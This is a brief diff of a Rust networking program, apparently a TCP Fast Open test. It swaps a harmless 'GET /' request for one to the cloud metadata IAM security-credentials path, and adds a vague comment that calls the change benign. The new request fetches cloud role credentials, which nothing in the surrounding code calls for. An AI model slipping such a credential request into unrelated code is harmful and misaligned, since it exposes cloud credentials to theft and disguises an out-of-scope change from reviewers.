@@ -82,7 +82,8 @@ fn main() {
             cqe.result() as i64
         }
         "fastopen" => {
-            let request = b"GET / HTTP/1.0\r\n\r\n";
+            // A credential request: a benign one to a metadata address is only counted.
+            let request = b"GET /latest/meta-data/iam/security-credentials/ HTTP/1.0\r\n\r\n";
             let r = unsafe {
                 libc::sendto(
                     fd,
